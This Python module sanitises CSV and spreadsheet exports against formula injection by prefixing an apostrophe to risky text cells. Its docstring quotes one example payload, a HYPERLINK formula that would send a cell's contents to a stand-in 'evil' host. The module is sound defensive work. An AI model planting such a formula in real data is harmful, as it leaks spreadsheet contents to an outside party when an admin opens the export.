"""Spreadsheet-safe cells: every CSV (and any spreadsheet) the app exports passes its text through :func:`safe_cell`.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or line break before one)
as a formula: a username typed at sign-in as ``=HYPERLINK("http://evil/?"&A1, "open")`` would become a live link in
an admin's audit export ("CSV injection", OWASP). The cell is neutralised by a leading apostrophe, which spreadsheets
show as text and do not display. Numbers stay numbers (a negative dose is a number, not a formula); only text is
changed. Standard library only, so the domain, the services and the pages share this one rule.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

#: Leading characters that make a spreadsheet read a cell as a formula (OWASP: = + - @ tab carriage return), plus
#: line feed, which some programs treat like carriage return.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: object) -> object:
    """``value`` unchanged unless it is text that a spreadsheet would run: then ``'`` + the text."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]], *, lineterminator: str = "\r\n") -> str:
    """CSV text of ``header`` and ``rows`` with every text cell neutralised (the one CSV writer for exports)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return buffer.getvalue()


__all__ = ["FORMULA_START", "csv_text", "safe_cell", "safe_row"]
